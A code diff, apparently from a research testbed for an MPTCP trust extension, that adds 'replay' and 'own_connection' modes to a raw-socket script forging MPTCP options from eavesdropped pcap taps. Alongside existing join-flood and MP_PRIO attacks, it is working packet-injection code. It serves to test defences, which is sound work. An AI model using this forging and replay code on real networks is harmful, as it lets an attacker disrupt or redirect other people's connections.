@@ -20,6 +20,18 @@ counter above any real one), in the shape asked for; CLAIM_SETTLE later, once th
 victim's agent would have taken it, an MP_PRIO in the same shape on the same subflows,
 which the victim acts on only if that subflow is no longer in enforcement's scope.
 Started with ``--victim`` the peer's addresses and ``--peer`` the eavesdropped host's.
+
+``replay`` resends, in the shape asked for, every control option the eavesdropped host
+sent on the tapped subflows (attacks.REPLAYED_SUBTYPES and ADDR_TRUST, bytes as
+recorded) with the subflow's current sequence numbers, and with ``--record-tap`` (a
+capture of a path it can read but not send on, such as the eavesdropped host's protected
+access link) what that path carries too: the extension's messages travel on trusted
+subflows. The MP_PRIO behind it goes only on the subflows of ``--tap``; ``own_connection`` says
+attacks.own_connection_claims on the attacker's own MPTCP connection to the victim
+(``--own`` its address, ``--own-tap`` a capture of it, whose handshake gives the keys;
+always plain: it is the attacker's own connection). Both are followed by the MP_PRIO, as
+the claim is. Neither sends anything before the tap has shown the eavesdropped
+connection.
 """
 
 from __future__ import annotations
@@ -33,8 +45,11 @@ import time
 
 from experiments import attacks
 from experiments.shapes import PAYLOAD, SHAPES
+from hosts.options import OptionError, parse_mptcp
 
 CLAIM_SETTLE = 0.01  # s: the victim's agent reads the claim and updates its classifier
+# Sequence space a shape's segment consumes: the next forgery on that subflow goes after it.
+CONSUMES = {"payload": len(PAYLOAD), "fin": 1}
 
 
 def forge(
@@ -45,25 +60,93 @@ def forge(
     rng: random.Random,
     advance: dict,
     now: float,
+    own: attacks.Knowledge | None = None,
+    recorded: attacks.Knowledge | None = None,
 ) -> list:
-    """The packets of one command; ``advance``: sequence space our forgeries used."""
+    """The packets of one command; ``advance``: sequence space our forgeries used;
+    ``own``: what the attacker knows of its own connection (``own_connection``);
+    ``recorded``: what it read on the record tap (``replay``)."""
     if attack == "join_flood":
         port = k.server_port or args.port
         sources = sorted({t[2] for t in k.last_from_peer}) or args.victim
         targets = sorted({t[0] for t in k.last_from_peer}) or args.peer
         return attacks.join_flood(k, sources, targets, port, rng)
+    if attack == "own_connection":
+        return _own_connection(k, own, args, advance, now)
+    if attack == "replay":
+        return _replay(k, recorded, shape, advance, now)
     if attack != "claim":
         option = attacks.option_for(attack, k, args.attacker, rng, tuple(args.removed_id))
     out = []
     for four, seen in k.last_from_peer.items():
         if attack == "claim":
-            option = attacks.claim_for(seen, k, args.counter, args.addr_trust_subtype)
-            if option is None:  # no keys, no signature: nothing worth sending
+            claim = attacks.claim_for(seen, k, args.counter, args.addr_trust_subtype)
+            options = [claim] if claim is not None else []  # no keys: nothing worth sending
+        else:
+            options = [option]
+        for option in options:
+            out += SHAPES[shape](_after(seen, option, four, advance, now), option)
+            advance[four] = advance.get(four, 0) + CONSUMES.get(shape, 0)
+    return out
+
+
+def _after(seen, option: bytes, four: tuple, advance: dict, now: float):
+    """attacks.segment_after, past the sequence space our earlier forgeries used."""
+    base = attacks.segment_after(seen, option, now)
+    base["TCP"].seq = (base["TCP"].seq + advance.get(four, 0)) & 0xFFFFFFFF
+    return base
+
+
+def _replay(
+    k: attacks.Knowledge, recorded: attacks.Knowledge | None, shape: str, advance: dict, now: float
+) -> list:
+    """Every recorded option again, on the subflow it was recorded on, after the latest
+    segment either tap shows there."""
+    sources = [k] + ([recorded] if recorded is not None else [])
+    out = []
+    for source in sources:
+        for four, option in source.recorded:
+            seen = next((s.last_from_peer[four] for s in sources if four in s.last_from_peer), None)
+            if seen is None:
                 continue
-        base = attacks.segment_after(seen, option, now)
-        base["TCP"].seq = (base["TCP"].seq + advance.get(four, 0)) & 0xFFFFFFFF
-        out += SHAPES[shape](base, option)
-        advance[four] = advance.get(four, 0) + {"payload": len(PAYLOAD), "fin": 1}.get(shape, 0)
+            out += SHAPES[shape](_after(seen, option, four, advance, now), option)
+            advance[four] = advance.get(four, 0) + CONSUMES.get(shape, 0)
+    return out
+
+
+def describe(k: attacks.Knowledge, recorded: attacks.Knowledge | None) -> str:
+    """What a replay had to resend, for the records: ``AddrTrust:2 AddAddr-T:1``."""
+    counts: dict[str, int] = {}
+    for _, option in k.recorded + (recorded.recorded if recorded else []):
+        try:
+            opt = parse_mptcp(option)
+        except OptionError:
+            name = "unparsed"
+        else:
+            name = type(opt).__name__ + "".join(
+                f"-{flag}" for flag in ("echo", "trust", "withdraw") if getattr(opt, flag, False)
+            )
+        counts[name] = counts.get(name, 0) + 1
+    return " ".join(f"{name}:{n}" for name, n in sorted(counts.items()))
+
+
+def _own_connection(
+    k: attacks.Knowledge, own: attacks.Knowledge | None, args, advance: dict, now: float
+) -> list:
+    """attacks.own_connection_claims on each subflow of the attacker's own connection,
+    once the tap has shown the eavesdropped host's connection (whose addresses they
+    name: the one on the tap is its unprotected address, its other one protected)."""
+    if own is None or not k.last_from_peer:
+        return []
+    unprotected = sorted({four[0] for four in k.last_from_peer})
+    protected = sorted(set(args.peer) - set(unprotected)) or unprotected
+    out = []
+    for four, seen in own.last_from_peer.items():
+        src, _, dst, _ = four
+        for option in attacks.own_connection_claims(
+            own, src, dst, protected[0], unprotected[0], args.counter, args.addr_trust_subtype
+        ):
+            out += SHAPES["plain"](_after(seen, option, four, advance, now), option)
     return out
 
 
@@ -85,12 +168,19 @@ def main(argv: list[str] | None = None) -> int:
     )
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument(
+        "--record-tap", help="pcap of a path the attacker reads but does not send on (replay)"
+    )
+    ap.add_argument("--own", help="the attacker's address on its own connection (own_connection)")
+    ap.add_argument("--own-tap", help="pcap of the attacker's own connection (own_connection)")
+    ap.add_argument(
         "--addr-trust-subtype",
         type=int,
         default=attacks.ADDR_TRUST_DEFAULT,
         help="the MPTCP subtype the agents use for ADDR_TRUST",
     )
     args = ap.parse_args(argv)
+    if bool(args.own) != bool(args.own_tap):
+        ap.error("--own and --own-tap go together")
     args.counter = attacks.CLAIM_COUNTER
     args.removed_id = args.removed_id or list(attacks.REMOVED_IDS)
     # One raw IP socket for the whole run (the kernel routes, resolves the next hop and
@@ -100,7 +190,12 @@ def main(argv: list[str] | None = None) -> int:
     rng, advance = random.Random(args.seed), {}
     victim, peer = set(args.victim), set(args.peer)
     # The tap is read on from where it stopped: a command costs what was written since.
-    tap, learner = attacks.TapFollower(args.tap), attacks.Learner(victim, peer)
+    subtype = args.addr_trust_subtype
+    tap, learner = attacks.TapFollower(args.tap), attacks.Learner(victim, peer, subtype)
+    record_tap = attacks.TapFollower(args.record_tap) if args.record_tap else None
+    record_learner = attacks.Learner(victim, peer, subtype)
+    own_tap = attacks.TapFollower(args.own_tap) if args.own_tap else None
+    own_learner = attacks.Learner(victim, {args.own}, subtype) if args.own else None
     # scapy's layers load on first use, some 150 ms: before the connection starts, not in
     # its first moments.
     from scapy.layers.inet import IP, TCP, fragment
@@ -115,6 +210,9 @@ def main(argv: list[str] | None = None) -> int:
         patience = 0.0 if words[2:3] == ["now"] else attacks.PATIENCE
         if attack == "join_flood":
             shape = "plain"  # one shape: the flood
+        if attack == "own_connection" and own_tap is None:
+            print(json.dumps({"error": "own_connection needs --own and --own-tap"}), flush=True)
+            continue
         if attack not in attacks.ALL_ATTACKS or shape not in SHAPES:
             print(
                 json.dumps(
@@ -128,13 +226,20 @@ def main(argv: list[str] | None = None) -> int:
             continue
         try:
             k = attacks.eavesdrop(tap, victim, peer, patience=patience, learner=learner)
-
-            packets = forge(attack, shape, k, args, rng, advance, time.time())
+            own = None
+            if own_tap is not None:  # quiet by design: what the tap holds now is current
+                own = attacks.eavesdrop(
+                    own_tap, victim, {args.own}, patience=0, learner=own_learner
+                )
+            recorded = None
+            if record_tap is not None:
+                recorded = record_learner.feed(record_tap()).knowledge()
+            packets = forge(attack, shape, k, args, rng, advance, time.time(), own, recorded)
             sent_at = time.time()
             for pkt in packets:
                 sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
-            if attack == "claim":
-                args.counter += 1  # the next claim must be fresh too
+            if attack in attacks.EXTENSION_ATTACKS:
+                args.counter += 3  # the next claims must be fresh too
                 if packets:
                     time.sleep(CLAIM_SETTLE)
                     prio = forge("mp_prio", shape, k, args, rng, advance, time.time())
@@ -152,6 +257,16 @@ def main(argv: list[str] | None = None) -> int:
                     "sent": len(packets),
                     "sent_at": sent_at,
                     **k.summary(),
+                    "recorded": len(k.recorded) + (len(recorded.recorded) if recorded else 0),
+                    "replayed": describe(k, recorded) if attack == "replay" else "",
+                    **(
+                        {
+                            "own_subflows": len(own.last_from_peer),
+                            "own_keys": own.client_key is not None,
+                        }
+                        if own
+                        else {}
+                    ),
                 }
             ),
             flush=True,
